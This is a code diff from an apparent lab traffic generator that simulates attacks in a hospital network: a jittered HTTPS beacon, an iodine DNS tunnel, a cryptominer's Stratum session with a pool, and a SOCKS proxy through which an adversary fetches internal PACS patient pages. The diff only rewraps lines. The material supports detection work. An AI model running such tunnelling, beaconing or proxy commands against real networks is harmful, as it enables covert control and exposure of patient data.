@@ -13,8 +13,8 @@ _PROXY_PORT = 1080
 
 @attack("https-beacon", causes=asks("cdn-telemetry.example"))
 def https_beacon(w: Work, intensity: str) -> None:
-    """A program asks for orders over HTTPS: every lab minute for 3 real minutes, every 4 with 20 % jitter for 8, or every 15 with
-    50 % jitter to the end."""
+    """A program asks for orders over HTTPS: every lab minute for 3 real minutes, every 4 with 20 % jitter for 8, or every 15
+    with 50 % jitter to the end."""
     count, period, jitter = by(intensity, (48, 60, 0.05), (32, 240, 0.2), (200, 900, 0.5))
     for turn in turns(w, count, period, jitter):
         if turn % 8 == 7:
@@ -25,11 +25,11 @@ def https_beacon(w: Work, intensity: str) -> None:
 
 @attack("dns-tunnel", causes=asks(TUNNEL_DOMAIN))
 def dns_tunnel(w: Work, intensity: str) -> None:
-    """A tunnel in DNS queries (iodine) through the hospital's resolver carries orders and answers: 100 kB and lively, 24 kB, or
-    3 kB with long pauses."""
+    """A tunnel in DNS queries (iodine) through the hospital's resolver carries orders and answers: 100 kB and lively, 24 kB,
+    or 3 kB with long pauses."""
     said = open(w.dir / "iodine.out", "wb")
-    client = w.start("iodine", "-f", "-4", "-r", "-T", "TXT", "-m", by(intensity, 600, 400, 180), "-I", by(intensity, 2, 10, 40), "-L", 1,
-                     "-P", TUNNEL_PASSWORD, HOSTS["infra"].v4, TUNNEL_DOMAIN, stdout=said, stderr=said)
+    client = w.start("iodine", "-f", "-4", "-r", "-T", "TXT", "-m", by(intensity, 600, 400, 180),
+                     "-I", by(intensity, 2, 10, 40), "-L", 1, "-P", TUNNEL_PASSWORD, HOSTS["infra"].v4, TUNNEL_DOMAIN, stdout=said, stderr=said)
     try:
         w.pause(6)
         if client.poll() is not None:
@@ -66,8 +66,8 @@ def _slow(w: Work, period: float) -> None:
 
 @attack("cryptominer", causes=asks("pool.hash-rate.example"))
 def cryptominer(w: Work, intensity: str) -> None:
-    """A miner keeps a connection to its pool and hands in shares (Stratum, JSON lines): every 2, 8 or 30 real seconds, for 3 to 8
-    minutes."""
+    """A miner keeps a connection to its pool and hands in shares (Stratum, JSON lines): every 2, 8 or 30 real seconds, for 3
+    to 8 minutes."""
     count, period = by(intensity, (90, 32), (40, 128), (16, 480))
     w.attempt(_mine, w, count, period)
 
@@ -81,13 +81,14 @@ def _mine(w: Work, count: int, period: float) -> None:
         say(1, "mining.subscribe", "cpuminer/2.5.1")
         say(2, "mining.authorize", "worker.17", "x")
         for turn in turns(w, count, period, 0.5):
-            say(turn + 3, "mining.submit", "worker.17", f"{turn:x}", f"{w.rng.getrandbits(32):08x}", f"{w.rng.getrandbits(32):08x}")
+            say(turn + 3, "mining.submit", "worker.17", f"{turn:x}", f"{w.rng.getrandbits(32):08x}",
+                f"{w.rng.getrandbits(32):08x}")
 
 
 @attack("inward-proxy")
 def inward_proxy(w: Work, intensity: str) -> None:
-    """A proxy (microsocks) on this workstation lets the adversary look at inner web services from outside: 30 requests at once, 12
-    with pauses, or 4 with long ones."""
+    """A proxy (microsocks) on this workstation lets the adversary look at inner web services from outside: 30 requests at
+    once, 12 with pauses, or 4 with long ones."""
     proxy = w.start("microsocks", "-p", _PROXY_PORT)
     here = w.host.v4
     pages = (f"http://{HOSTS['pacs'].v4}:8042/patients", f"http://{HOSTS['pacs'].v4}:8042/studies",
@@ -96,6 +97,7 @@ def inward_proxy(w: Work, intensity: str) -> None:
     w.pause(1)
     with w.on("adversary"):
         for turn in turns(w, count, period, 0.4):
-            w.run("curl", "-s", "-o", "/dev/null", "--max-time", 20, "--socks5", f"{here}:{_PROXY_PORT}", pages[turn % len(pages)])
+            w.run("curl", "-s", "-o", "/dev/null", "--max-time", 20, "--socks5", f"{here}:{_PROXY_PORT}",
+                  pages[turn % len(pages)])
     proxy.terminate()
     proxy.wait()
